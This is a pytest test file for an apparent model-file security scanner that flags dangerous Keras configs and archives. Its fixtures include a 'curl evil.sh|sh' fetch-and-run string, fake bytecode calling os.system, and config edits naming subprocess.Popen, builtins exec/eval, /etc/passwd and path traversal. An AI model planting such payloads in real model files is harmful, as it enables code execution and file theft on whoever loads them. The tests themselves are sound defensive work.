"""Keras configs: Lambda code (MG440), foreign modules (MG441), unsafe references (MG442) and
unexpected `.keras` members (MG445), on models saved by Keras 3 and hand-edited configs."""

from __future__ import annotations

import base64
import copy
import io
import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

os.environ["KERAS_BACKEND"] = "torch"  # before keras is imported (TensorFlow is not installed)

from modelguard.analysers.keras import advisory_note, check_keras_config, lambda_strings
from modelguard.filescan import FileScan
from modelguard.policy import Policy
from modelguard.results import FileResult, Location, Severity
from modelguard.scanner import scan_file

Json = dict[str, Any]

# -- helpers -------------------------------------------------------------------------------


def scan_path(path: Path) -> FileResult:
    return scan_file(path, path.name, Policy())


def rules(res: FileResult) -> set[str]:
    return {f.rule_id for f in res.findings}


def assert_clean(res: FileResult) -> None:
    bad = [f for f in res.findings if f.severity >= Severity.LOW]
    assert not bad, bad
    assert res.complete, res.incomplete


def run_config(config: object) -> FileScan:
    scan = FileScan("mem.json", Policy())
    check_keras_config(scan, config, Location("mem.json"))  # type: ignore[arg-type]
    return scan


def config_rules(config: object) -> set[str]:
    return {f.rule_id for f in run_config(config).coll.findings}


def rewrite_zip(src: Path, dst: Path, replace: dict[str, bytes]) -> Path:
    """Copy a zip, replacing (or adding) members."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            if info.filename not in replace:
                zout.writestr(info, zin.read(info.filename))
        for name, data in replace.items():
            zout.writestr(name, data)
    return dst


# -- fixtures: real models saved by Keras 3 ----------------------------------------------------


@pytest.fixture(scope="module")
def models(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    import keras
    from keras import layers

    root = tmp_path_factory.mktemp("keras")
    out: dict[str, Path] = {}

    seq = keras.Sequential(
        [
            keras.Input((10,)),
            layers.Embedding(50, 4),
            layers.LSTM(3),
            layers.BatchNormalization(),
            layers.Dense(2, activation="softmax"),
        ]
    )
    inner = keras.Sequential([keras.Input((3,)), layers.Dense(3), layers.LayerNormalization()])
    image = keras.Input((8, 8, 1))
    x = layers.Conv2D(2, 3, activation="relu")(image)
    x = layers.Flatten()(x)
    x = layers.Dense(3)(x)
    fun = keras.Model(image, inner(x))
    fun.compile(optimizer="adam", loss="mse", metrics=["mae"])

    vec = keras.Input((4,))
    lam = keras.Model(vec, layers.Lambda(lambda t: t * 2)(layers.Dense(4)(vec)))

    @keras.saving.register_keras_serializable(package="MyPkg")
    class Passthrough(layers.Layer):  # type: ignore[misc]
        def call(self, inputs: Any) -> Any:
            return inputs

    cust = keras.Sequential([keras.Input((3,)), Passthrough()])

    def my_fn(t: Any) -> Any:
        return t * 2

    named = keras.Sequential([keras.Input((4,)), layers.Dense(4), layers.Lambda(my_fn)])

    for name, model in (("seq", seq), ("fun", fun), ("lam", lam)):
        for ext in ("keras", "h5"):
            path = root / f"{name}.{ext}"
            model.save(path)
            out[f"{name}.{ext}"] = path
    out["named.keras"] = root / "named.keras"
    named.save(out["named.keras"])
    out["cust.keras"] = root / "cust.keras"
    cust.save(out["cust.keras"])
    out["fun.json"] = root / "fun.json"
    out["fun.json"].write_text(fun.to_json())
    return out


def config_of(path: Path) -> Json:
    with zipfile.ZipFile(path) as zf:
        doc: Json = json.loads(zf.read("config.json"))
    return doc


# -- benign ---------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["seq.keras", "seq.h5", "fun.keras", "fun.h5", "fun.json"])
def test_models_saved_by_keras_scan_clean(models: dict[str, Path], name: str) -> None:
    assert_clean(scan_path(models[name]))


def test_registered_custom_layer_is_reported_for_its_module_only(
    models: dict[str, Path],
) -> None:
    # "MyPkg>Passthrough" names an entry in the loading process's registry, filled by the
    # user's own code: not reported. The class was defined in this test module, so Keras
    # also writes `module`, which older Keras imported (CVE-2025-1550): that is MG441.
    res = scan_path(models["cust.keras"])
    assert rules(res) == {"MG441"}
    assert {f.evidence_map.get("field") for f in res.findings} == {"module"}, res.findings


# -- Lambda ---------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["lam.keras", "lam.h5"])
def test_lambda_saved_by_keras(models: dict[str, Path], name: str) -> None:
    res = scan_path(models[name])
    hits = [f for f in res.findings if f.rule_id == "MG440"]
    assert len(hits) == 1 and hits[0].severity is Severity.CRITICAL
    assert "<lambda>" in hits[0].evidence_map["strings"]
    assert hits[0].evidence_map["path"].endswith(".config.function")
    assert res.complete


def test_lambda_strings_never_unmarshal() -> None:
    code = base64.b64encode(b"\xe3\x00\x00os\x00system\x01\x02curl evil.sh|sh").decode()
    assert lambda_strings(code) == ["system", "curl evil.sh|sh"]
    assert lambda_strings("!!! not base64 @@@") == ["!!! not base64 @@@"]


# -- hand-edited configs --------------------------------------------------------------------

LEGACY_CODE = base64.b64encode(b"\xe3\x00\x00\x00\x02os\x00\x06system\x00").decode()


def _layer(config: Json, index: int = 1) -> Json:
    layer: Json = config["config"]["layers"][index]
    return layer


def _set_module(module: str) -> Callable[[Json], None]:
    def edit(config: Json) -> None:
        _layer(config)["module"] = module

    return edit


def _activation_fn(module: str, fn: str) -> Callable[[Json], None]:
    def edit(config: Json) -> None:
        _layer(config)["config"]["activation"] = {
            "module": module,
            "class_name": "function",
            "config": fn,
            "registered_name": None,
        }

    return edit


def _add_layer(entry: Json) -> Callable[[Json], None]:
    def edit(config: Json) -> None:
        config["config"]["layers"].append(copy.deepcopy(entry))

    return edit


def _rename(config: Json) -> None:
    _layer(config)["config"]["name"] = "../../x"


def _legacy_lambda(config: Json) -> None:
    _layer(config).update(
        class_name="Lambda",
        config={"name": "l", "function": [LEGACY_CODE, None, None], "function_type": "lambda"},
    )


def _deep_lambda(config: Json) -> None:
    # Not a layer: an initializer's config, three objects down. Every dict is walked.
    _layer(config)["config"]["embeddings_initializer"]["config"]["seed"] = {
        "class_name": "__lambda__",
        "config": {"code": LEGACY_CODE, "defaults": None, "closure": None},
    }


EDITS: list[tuple[str, Callable[[Json], None], str, str]] = [
    ("module-os", _set_module("os"), "MG441", "os"),
    ("module-subprocess", _activation_fn("subprocess", "Popen"), "MG441", "subprocess"),
    ("prefix-collision", _set_module("kerasevil.layers"), "MG441", "kerasevil.layers"),
    ("prefix-underscore", _set_module("keras_evil"), "MG441", "keras_evil"),
    ("get-file", _activation_fn("keras.utils", "get_file"), "MG442", "get_file"),
    (
        "unsafe-deser",
        _activation_fn("keras.config", "enable_unsafe_deserialization"),
        "MG442",
        "enable_unsafe_deserialization",
    ),
    (
        "tfsm",
        _add_layer(
            {
                "module": "keras.layers",
                "class_name": "TFSMLayer",
                "config": {"name": "t", "filepath": "/tmp/attacker_savedmodel"},
                "registered_name": None,
            }
        ),
        "MG442",
        "TFSMLayer",
    ),
    (
        "torch-wrapper",
        _add_layer(
            {
                "module": "keras.layers",
                "class_name": "TorchModuleWrapper",
                "config": {"name": "w", "module": "gASV..."},
                "registered_name": "TorchModuleWrapper",
            }
        ),
        "MG442",
        "TorchModuleWrapper",
    ),
    (
        "vocab-path",
        _add_layer(
            {
                "module": "keras.layers",
                "class_name": "StringLookup",
                "config": {"name": "s", "vocabulary": "/etc/passwd"},
                "registered_name": None,
            }
        ),
        "MG442",
        "/etc/passwd",
    ),
    ("path-name", _rename, "MG442", "../../x"),
    ("legacy-lambda", _legacy_lambda, "MG440", "system"),
    ("nested-lambda", _deep_lambda, "MG440", "system"),
    # Python builtins named as functions (red team: module "builtins" was always allowed).
    ("builtins-exec", _activation_fn("builtins", "exec"), "MG442", "exec"),
    ("builtins-eval", _activation_fn("builtins", "eval"), "MG442", "eval"),
    ("builtins-open", _activation_fn("builtins", "open"), "MG442", "open"),
    ("builtins-import", _activation_fn("builtins", "__import__"), "MG442", "__import__"),
    ("builtins-print", _activation_fn("builtins", "print"), "MG441", "print"),
    # Keras helpers that Keras' own NON_MODELING_APIS does not list.
    (
        "keras-rmtree",
        _activation_fn("keras.src.utils.file_utils", "rmtree"),
        "MG442",
        "file_utils.rmtree",
    ),
    (
        "keras-legacy-h5-load",
        _activation_fn("keras.src.legacy.saving.legacy_h5_format", "load_model_from_hdf5"),
        "MG442",
        "load_model_from_hdf5",
    ),
    ("keras-trailing-dot", _activation_fn("keras.", "x"), "MG441", "keras."),
    (
        "lambda-named-exec",
        _add_layer(
            {
                "module": "keras.layers",
                "class_name": "Lambda",
                "config": {
                    "name": "l",
                    "function": {
                        "module": "builtins",
                        "class_name": "function",
                        "config": "exec",
                        "registered_name": "function",
                    },
                    "arguments": {},
                },
                "registered_name": None,
            }
        ),
        "MG442",
        "exec",
    ),
]


@pytest.mark.parametrize(
    ("edit", "rule", "needle"), [e[1:] for e in EDITS], ids=[e[0] for e in EDITS]
)
def test_edited_config_json(
    models: dict[str, Path],
    tmp_path: Path,
    edit: Callable[[Json], None],
    rule: str,
    needle: str,
) -> None:
    config = config_of(models["seq.keras"])
    edit(config)
    path = rewrite_zip(
        models["seq.keras"], tmp_path / "edited.keras", {"config.json": json.dumps(config).encode()}
    )
    res = scan_path(path)
    hits = [f for f in res.findings if f.rule_id == rule]
    assert hits, res.findings
    assert any(needle in " ".join(f.evidence_map.values()) for f in hits), hits
    assert all(f.severity >= Severity.HIGH for f in hits)


def test_keras_archive_with_python_member(models: dict[str, Path], tmp_path: Path) -> None:
    path = rewrite_zip(
        models["seq.keras"], tmp_path / "extra.keras", {"custom_layers.py": b"import os\n"}
    )
    res = scan_path(path)
    hits = [f for f in res.findings if f.rule_id == "MG445"]
    assert len(hits) == 1 and hits[0].severity is Severity.LOW
    assert hits[0].evidence_map["code_or_pickle"] == "custom_layers.py"


def test_keras_archive_assets_are_expected(models: dict[str, Path], tmp_path: Path) -> None:
    path = rewrite_zip(models["seq.keras"], tmp_path / "a.keras", {"assets/vocab.txt": b"a\nb\n"})
    assert "MG445" not in rules(scan_path(path))


def test_keras_archive_weights_with_external_storage(
    models: dict[str, Path], tmp_path: Path
) -> None:
    import h5py

    canary = tmp_path / "canary.txt"
    canary.write_bytes(b"host secret\n" * 4)
    weights = tmp_path / "model.weights.h5"
    with h5py.File(weights, "w") as f:
        f.create_dataset(
            "layers/dense/vars/0", shape=(48,), dtype="u1", external=[(str(canary), 0, 48)]
        )
    path = rewrite_zip(
        models["seq.keras"], tmp_path / "ext.keras", {"model.weights.h5": weights.read_bytes()}
    )
    res = scan_path(path)
    hits = [f for f in res.findings if f.rule_id == "MG443"]
    assert hits and hits[0].evidence_map["files"] == str(canary)
    assert hits[0].location.members == ("model.weights.h5",)


# -- unit level -----------------------------------------------------------------------------


def test_findings_are_deduplicated() -> None:
    layer = {"module": "os", "class_name": "X", "config": {}}
    scan = run_config({"class_name": "M", "config": {"layers": [layer, layer, layer]}})
    hits = [f for f in scan.coll.findings if f.rule_id == "MG441"]
    assert len(hits) == 1
    assert hits[0].evidence_map["occurrences"] == "3"
    assert hits[0].evidence_map["path"] == "config.layers[0].module"


@pytest.mark.parametrize(
    ("config", "expected"),
    [
        ({"class_name": "Dense", "config": {}, "module": "keras.layers"}, set()),
        ({"class_name": "Dense", "config": {}, "module": "keras_hub.layers"}, set()),
        ({"class_name": "function", "config": "relu", "module": "builtins"}, set()),
        ({"class_name": "Dense", "config": {}, "module": "kerasx"}, {"MG441"}),
        ({"class_name": "X", "config": {}, "registered_name": "keras_hub>Bert"}, set()),
        ({"class_name": "MyPkg>X", "config": {}}, set()),
        ({"class_name": "X", "config": {}, "registered_name": "os>system"}, {"MG441"}),
        ({"class_name": "X", "config": {}, "registered_name": "subprocess.run>X"}, {"MG441"}),
        ({"class_name": "X", "config": {}, "module": "mypkg.layers"}, {"MG441"}),
        ({"class_name": "load_model", "config": {}, "module": "keras.models"}, {"MG442"}),
        (
            {"class_name": "X", "config": {}, "module": "keras.utils.image_dataset_from_directory"},
            {"MG442"},
        ),
        ({"class_name": "L", "config": {"vocabulary": ["a", "b"]}}, set()),
        ({"class_name": "L", "config": {"vocabulary": None, "proto": "https://x/y"}}, {"MG442"}),
        ({"class_name": "L", "config": {"name": "..\\evil"}}, {"MG442"}),
        ({"class_name": "__lambda__", "config": {"value": [LEGACY_CODE, None, None]}}, {"MG440"}),
        # What Keras 3.15 writes for functions, and what older Keras wrote for public ones.
        ({"class_name": "function", "config": "my_fn", "module": "builtins"}, set()),
        (
            {"class_name": "builtin_function_or_method", "config": "abs", "module": "builtins"},
            set(),
        ),
        ({"class_name": "function", "config": "relu", "module": "keras.activations"}, set()),
        ({"class_name": "function", "config": "mse", "module": "keras.src.losses.losses"}, set()),
        ({"class_name": "function", "config": "add", "module": "keras.src.ops.numpy"}, set()),
        ({"class_name": "function", "config": "exec", "module": " builtins "}, {"MG442"}),
        (
            {"class_name": "builtin_function_or_method", "config": "eval", "module": "builtins"},
            {"MG442"},
        ),
        ({"class_name": "getattr", "config": {}, "module": "builtins"}, {"MG442"}),
        ({"class_name": "X", "config": {}, "registered_name": "builtins>compile"}, {"MG442"}),
        (
            {"class_name": "function", "config": "copy", "module": "keras.utils.file_utils"},
            {"MG442"},
        ),
        ({"class_name": "function", "config": "f", "module": "keras.src.models.model"}, {"MG441"}),
        ({"class_name": "function", "config": "f", "module": "keras_hub.src.utils.x"}, {"MG442"}),
    ],
)
def test_config_table(config: Json, expected: set[str]) -> None:
    assert config_rules(config) == expected


def test_deep_nesting_is_walked_to_the_bottom() -> None:
    # Red team: a depth cap turned a deep Lambda into MG003 (incomplete) instead of MG440.
    deep: object = {"class_name": "__lambda__", "config": {"code": LEGACY_CODE}}
    for _ in range(500):
        deep = [deep]
    scan = run_config({"class_name": "M", "config": {"x": deep}})
    assert not scan.coll.incomplete
    assert {f.rule_id for f in scan.coll.findings} == {"MG440"}


def test_long_keys_keep_paths_bounded() -> None:
    deep: object = {"class_name": "__lambda__", "config": {"code": LEGACY_CODE}}
    for _ in range(200):
        deep = {"k" * 5000: deep}
    scan = run_config({"class_name": "M", "config": {"x": deep}})
    hits = [f for f in scan.coll.findings if f.rule_id == "MG440"]
    assert len(hits) == 1 and len(hits[0].evidence_map["path"]) <= 1000


@pytest.mark.parametrize("levels", [30, 200])
def test_lambda_under_nested_sequentials(
    models: dict[str, Path], tmp_path: Path, levels: int
) -> None:
    lam = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": {"class_name": "__lambda__", "config": {"code": LEGACY_CODE}},
        },
        "registered_name": None,
    }
    deep: Json = lam
    for i in range(levels):
        deep = {
            "module": "keras",
            "class_name": "Sequential",
            "config": {"name": f"s{i}", "layers": [deep]},
            "registered_name": None,
        }
    config = config_of(models["seq.keras"])
    config["config"]["layers"].append(deep)
    path = rewrite_zip(
        models["seq.keras"], tmp_path / "deep.keras", {"config.json": json.dumps(config).encode()}
    )
    res = scan_path(path)
    assert "MG440" in rules(res), res.findings
    assert res.complete, res.incomplete


def test_lambda_of_a_named_function_is_clean(models: dict[str, Path]) -> None:
    # Keras writes Lambda(my_fn) as {"module": "builtins", "class_name": "function",
    # "config": "my_fn"}: no code is stored, and Keras resolves the name only from its own
    # built-ins or the caller's custom_objects, so there is nothing to report.
    config = config_of(models["named.keras"])
    (lam,) = [x for x in config["config"]["layers"] if x["class_name"] == "Lambda"]
    fn = lam["config"]["function"]
    assert fn["module"] == "builtins" and fn["class_name"] == "function"
    assert_clean(scan_path(models["named.keras"]))


_ENCODINGS = ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "surrogate"]


def _encode(text: str, encoding: str) -> bytes:
    if encoding == "surrogate":
        # json.loads(bytes) decodes UTF-8 with 'surrogatepass': a lone surrogate still loads.
        return text.replace('"name"', '"n\udc00ame"', 1).encode("utf-8", "surrogatepass")
    return text.encode(encoding)


def _lambda_config(models: dict[str, Path]) -> str:
    config = config_of(models["seq.keras"])
    _layer(config)["config"]["activation"] = {
        "class_name": "__lambda__",
        "config": {"code": LEGACY_CODE},
    }
    return json.dumps(config)


@pytest.mark.parametrize("encoding", _ENCODINGS)
def test_config_in_other_encodings_is_walked(models: dict[str, Path], encoding: str) -> None:
    # Keras reads config.json with json.loads(bytes): BOM, UTF-16/32, surrogates all load.
    from modelguard.analysers.textfiles import analyse_text
    from modelguard.formats.blob import BytesBlob

    data = _encode(_lambda_config(models), encoding)
    scan = FileScan("m.keras", Policy())
    fmt = analyse_text(scan, BytesBlob(data), Location("m.keras", ("config.json",)), 1)
    assert fmt == "json"
    hits = [f for f in scan.coll.findings if f.rule_id == "MG440"]
    assert hits and all("json_encoding" in f.evidence_map for f in hits)


def _filescan_routes_json() -> bool:
    import inspect

    from modelguard import filescan

    return "looks_like_json" in inspect.getsource(filescan)


@pytest.mark.skipif(
    not _filescan_routes_json(), reason="filescan.py does not route non-UTF-8 JSON yet"
)
@pytest.mark.parametrize("encoding", _ENCODINGS)
def test_keras_with_encoded_config(models: dict[str, Path], tmp_path: Path, encoding: str) -> None:
    data = _encode(_lambda_config(models), encoding)
    path = rewrite_zip(models["seq.keras"], tmp_path / "enc.keras", {"config.json": data})
    res = scan_path(path)
    assert "MG440" in rules(res), res.findings


def test_keras_sharded_weights_index_is_clean(tmp_path: Path) -> None:
    # model.save_weights(..., max_shard_size=...) writes x.weights.json whose weight_map values
    # are lists of .weights.h5 shard names (red team: MG412 bad-entry on a real save).
    import keras
    from keras import layers

    model = keras.Sequential([keras.Input((8,))] + [layers.Dense(128) for _ in range(3)])
    index = tmp_path / "model.weights.json"
    model.save_weights(index, max_shard_size=0.0001)
    doc = json.loads(index.read_text())
    assert any(isinstance(v, list) for v in doc["weight_map"].values())
    shards = sorted(p.name for p in tmp_path.glob("*.weights.h5"))
    assert len(shards) > 1
    assert_clean(scan_path(index))
    for name in shards:
        assert_clean(scan_path(tmp_path / name))


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        (["../../evil.weights.h5"], "shard-path"),
        (["ok.weights.h5", "/abs.weights.h5"], "shard-path"),
        ([], "bad-entry"),
        (["ok.weights.h5", 3], "bad-entry"),
        (["ok.weights.h5", "missing.weights.h5"], "missing-shard"),
    ],
)
def test_keras_sharded_index_list_values(tmp_path: Path, value: list[object], problem: str) -> None:
    (tmp_path / "ok.weights.h5").write_bytes(b"\x89HDF\r\n\x1a\n")
    index = tmp_path / "model.weights.json"
    index.write_text(json.dumps({"metadata": {}, "weight_map": {"/layers/dense/vars": value}}))
    res = scan_path(index)
    hits = [f for f in res.findings if f.rule_id == "MG412"]
    assert [f.evidence_map["problem"] for f in hits] == [problem], res.findings


def test_standalone_json_with_lambda(models: dict[str, Path], tmp_path: Path) -> None:
    config = json.loads(models["fun.json"].read_text())
    _layer(config)["config"]["activation"] = {
        "class_name": "__lambda__",
        "config": {"code": LEGACY_CODE},
    }
    path = tmp_path / "model.json"
    path.write_text(json.dumps(config))
    assert "MG440" in rules(scan_path(path))


@pytest.mark.parametrize(
    ("subject", "version", "cve"),
    [
        ("ref:get_file", "3.10.0", "CVE-2025-8747"),
        ("ref:get_file", "3.11.0", None),
        ("ref:TorchModuleWrapper", "3.11.2", "CVE-2025-49655"),
        ("lambda:x", "2.12.0", "CVE-2024-3660"),
        ("vocab:/etc/passwd", "3.15.1", None),
        ("module:os", "garbage", None),
    ],
)
def test_advisory_note_only_labels(subject: str, version: str, cve: str | None) -> None:
    note = advisory_note(subject, version)
    assert note.startswith(f" (saved by Keras {version}")
    assert (cve in note) if cve else ("range" not in note)
    assert advisory_note(subject, None) == ""


# -- fuzz -------------------------------------------------------------------------------------

_KEYS = st.sampled_from(
    [
        "class_name", "config", "module", "registered_name", "fn_module", "function",
        "function_type", "name", "vocabulary", "code", "value", "layers", "x",
    ]
)  # fmt: skip
_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True),
    st.sampled_from(
        ["__lambda__", "lambda", "function", "os", "keras.layers", "a>b", ">", ".", "..", ""]
    ),
    st.text(max_size=20),
)
_JSON = st.recursive(
    _SCALARS,
    lambda inner: st.one_of(st.lists(inner, max_size=5), st.dictionaries(_KEYS, inner, max_size=6)),
    max_leaves=40,
)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(config=st.dictionaries(_KEYS, _JSON, max_size=6))
def test_fuzz_check_keras_config(config: Json) -> None:
    scan = run_config(config)
    assert all(i.rule_id == "MG003" for i in scan.coll.incomplete)


def test_fuzz_seed_roundtrip() -> None:
    # The fuzz's JSON values survive a dump/parse (what textfiles hands over).
    buf = io.StringIO()
    json.dump({"class_name": "x", "config": {}}, buf)
    assert config_rules(json.loads(buf.getvalue())) == set()
